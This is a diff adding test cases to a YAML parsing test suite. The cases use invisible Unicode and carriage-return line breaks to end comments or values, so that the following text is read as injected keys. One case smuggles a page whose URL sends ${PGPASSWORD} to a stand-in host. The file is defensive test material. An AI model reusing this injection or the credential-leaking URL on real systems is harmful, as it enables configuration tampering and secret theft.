@@ -54,6 +54,18 @@ CASES: dict[str, str | bytes] = {
     "chars-c1-control": T + "description: x\x9b\n",
     "chars-bom-in-middle": T + "description: x\ufeffy\n",
     "chars-nonchar-ffff": T + "description: x\uffff\n",
+    # line breaks to libyaml that editors do not show: outside quotes they end a comment or a plain value
+    # and what follows is read as keys (issue 25: how a discovered value could add a page to init's file)
+    "chars-line-separator-ends-comment": APP + "pages:\n  - {name: login, path: /login}  # HTTP 302 -> /login"
+    "\u2028  - {name: injected, url: \"http://127.0.0.2:9/leak/${PGPASSWORD}\"}  #\n",
+    "chars-line-separator-in-plain": T + "description: a\u2028endpoints: []\n",
+    "chars-paragraph-separator-in-comment": T + "pages: []  # x\u2029description: y\n",
+    "chars-paragraph-separator-in-block": T + "description: |\n  text\u2029injected: 1\n",
+    "chars-next-line-ends-comment": T + "# note\x85description: x\n",
+    "chars-next-line-in-flow-key": APP + "pages:\n  - {name: home, path: /\x85}\n",
+    "chars-lone-cr-ends-comment": T + "pages: []  # x\rdescription: y\n",
+    "chars-lone-cr-line-endings": T.replace("\n", "\r") + "pages: []\r",
+    "chars-lone-cr-after-crlf": T.replace("\n", "\r\n") + "description: a\rb\r\n",
     # --- YAML that is not a usable document ----------------------------------------------------------
     "yaml-tab-indent": T + "pages:\n\t- name: home\n",
     "yaml-unclosed-quote": T + "description: 'no end\n",
